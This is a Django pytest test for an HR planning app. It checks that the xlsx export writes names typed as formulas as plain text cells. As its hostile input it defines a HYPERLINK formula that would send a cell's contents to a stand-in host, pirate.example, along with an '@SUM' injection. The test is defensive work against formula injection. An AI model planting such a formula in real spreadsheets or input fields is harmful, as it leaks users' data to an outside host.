"""The planning spreadsheet carries no live formula: a name or a department typed as a formula
is written as a text cell."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from effectif.employees.models import Employee
from effectif.organisation.models import Department

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://pirate.example/?d="&C5,"Planning")'


def test_hostile_names_are_text_cells(client_for, world, hr_manager) -> None:
    Employee.objects.filter(pk=world.member.pk).update(last_name=HOSTILE)
    Department.objects.filter(pk=world.team.pk).update(name="@SUM(1+1)")
    url = reverse("planning:grid")
    response = client_for(hr_manager).get(
        f"{url}?pour=service-{world.team.pk}&periode=semaine&date=2026-04-06&export=xlsx"
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert "@SUM(1+1)" in texts
    assert any(str(value).upper().startswith(HOSTILE.upper()) for value in texts)
